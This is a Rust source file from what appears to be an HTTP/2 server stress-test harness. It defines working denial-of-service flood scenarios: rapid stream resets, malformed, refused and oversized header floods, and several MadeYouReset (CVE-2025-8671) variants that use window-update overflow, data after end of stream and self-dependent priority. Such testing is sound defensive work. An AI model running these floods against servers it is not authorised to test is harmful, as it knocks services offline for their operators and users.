//! Calls at full speed that are never served: reset by the client, refused, or malformed.

use super::floods::watches;
use super::held::on_connections;
use crate::client::{CHECK, CREATE_USERS, NO_METHOD};
use crate::link::{Target, Writer};
use crate::scenario::{Rule, Scenario};
use crate::wire::*;

/// Calls in one write.
const TOGETHER: usize = 100;

pub(crate) fn scenarios() -> Vec<Scenario> {
    vec![
        calls("rapid-reset", 0, CREATE_USERS, |frames, stream, head| {
            frames.headers(stream, head).reset(stream, CANCEL);
        })
        .also_over_tls(),
        calls("rapid-reset-with-data", 0, CREATE_USERS, |frames, stream, head| {
            frames.headers(stream, head).data(stream, b"\0").data(stream, b"\0");
            frames.reset(stream, CANCEL);
        }),
        calls("rapid-reset-of-whole-calls", 0, CHECK, |frames, stream, head| {
            frames.headers(stream, head).last_data(stream, &[0; 5]).reset(stream, CANCEL);
        }),
        calls("flood-refused", 1000, CHECK, |frames, stream, head| {
            frames.head_alone(stream, head);
        }),
        calls("flood-malformed", 0, CHECK, |frames, stream, _| {
            // No path.
            frames.head_alone(stream, &[0x83, 0x86]);
        }),
        calls("flood-unimplemented", 0, NO_METHOD, |frames, stream, head| {
            frames.headers(stream, head);
        }),
        // MadeYouReset (CVE-2025-8671): the client makes the server reset.
        calls("made-you-reset-by-window", 0, CREATE_USERS, |frames, stream, head| {
            frames.headers(stream, head).window(stream, 0);
        }),
        calls("made-you-reset-by-overflow", 0, CREATE_USERS, |frames, stream, head| {
            frames.headers(stream, head).window(stream, MAX_WINDOW).window(stream, MAX_WINDOW);
        }),
        calls("made-you-reset-by-data", 0, CHECK, |frames, stream, head| {
            frames.headers(stream, head).last_data(stream, &[0; 5]).data(stream, b"\0");
        }),
        calls("made-you-reset-by-priority", 0, CREATE_USERS, |frames, stream, head| {
            let own = stream.to_be_bytes();
            frames.headers(stream, head);
            frames.add(PRIORITY, 0, stream, &[own[0], own[1], own[2], own[3], 1]);
        }),
        large_heads(),
    ]
}

/// One of these after the other on each of two connections, beside this many calls that stay open.
fn calls(
    name: &str,
    stalled: u32,
    path: &'static str,
    call: fn(&mut Frames, u32, &[u8]),
) -> Scenario {
    Scenario::new(name, Rule::Flood, move || {
        async move |target: Target| {
            let attack = async |writer| flood(&target, writer, stalled, path, call).await;
            on_connections(&target, 2, attack).await
        }
    })
}

async fn flood(
    target: &Target,
    writer: Writer,
    stalled: u32,
    path: &str,
    call: fn(&mut Frames, u32, &[u8]),
) {
    let [first, later] = indexed_heads(path, &[]);
    // The open calls use the dynamic table as well, so this entry comes after theirs.
    let mut frames = Frames(watches(stalled));
    let mut stream = 1 + 2 * stalled;
    frames.head_alone(stream, &first);
    while target.goes_on() && writer.send(&frames.0).await.is_ok() {
        frames.0.clear();
        for _ in 0..TOGETHER {
            stream += 2;
            call(&mut frames, stream, &later);
        }
        if stream > MAX_WINDOW - 1000 {
            return;
        }
    }
}

/// Header lists of 400 KiB in 130 bytes each, which are answered with 431.
fn large_heads() -> Scenario {
    Scenario::new("flood-large-heads", Rule::Flood, || {
        async move |target: Target| {
            on_connections(&target, 2, async |writer| {
                let value = "v".repeat(3600);
                let [first, mut later] = indexed_heads(CHECK, &[("a", &value)]);
                later.extend_from_slice(&[0x80 | 62; 110]);
                let mut frames = Frames::default();
                frames.head_alone(1, &first);
                let mut stream = 1;
                while target.goes_on() && writer.send(&frames.0).await.is_ok() {
                    frames.0.clear();
                    for _ in 0..TOGETHER {
                        stream += 2;
                        frames.head_alone(stream, &later);
                    }
                }
            })
            .await
        }
    })
}
